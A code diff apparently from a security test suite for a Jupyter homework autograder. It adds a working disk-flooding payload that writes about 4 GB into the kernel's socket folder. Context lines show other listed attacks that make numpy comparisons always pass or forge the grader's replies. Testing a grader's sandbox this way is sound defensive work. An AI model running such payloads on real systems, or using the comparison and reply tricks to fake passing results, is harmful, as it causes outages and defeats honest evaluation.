@@ -176,6 +176,24 @@ def _hw2_grader_request(request):
 _hw2_grader_request.version = {KERNEL_SIDE_VERSION!r}
 '''
 
+# Fills the folder of the kernel's sockets, which lies outside its own tmpfs: 4 GB unless capped.
+IPC_FLOOD = '''
+import json, os
+from ipykernel.connect import get_connection_file
+ipc_folder = os.path.dirname(json.load(open(get_connection_file()))["ip"] or "/nowhere/x")
+written = 0
+for number in range(20):
+    try:
+        with open(os.path.join(ipc_folder, f"fill{number}.bin"), "wb") as file:
+            for _ in range(20):
+                file.write(bytes(10 * 1024**2))
+                written += 10 * 1024**2
+    except OSError as error:
+        print("stopped:", error)
+        break
+print(f"WROTE {written // 1024**2} MB")
+'''
+
 ATTACKS = [
     Attack("allclose_true", "np.allclose, np.isclose and np.array_equal always say yes", "erin",
            after_solutions(ZEROS, "import numpy as np\nnp.allclose = lambda *a, **k: True\n"
@@ -228,6 +246,8 @@ ATTACKS = [
                   "    except OSError:\n        pass\n"), True),
     Attack("forged_replies", "answers the grader's calls itself with links to the hidden reference, and plants "
                              "links where the grader writes", "alice", at_top(FORGE_REPLIES), True),
+    Attack("ipc_flood", "fills the folder of the kernel's sockets, outside its own tmpfs, with 4 GB", "alice",
+           at_top(IPC_FLOOD), True),
 ]
 
 
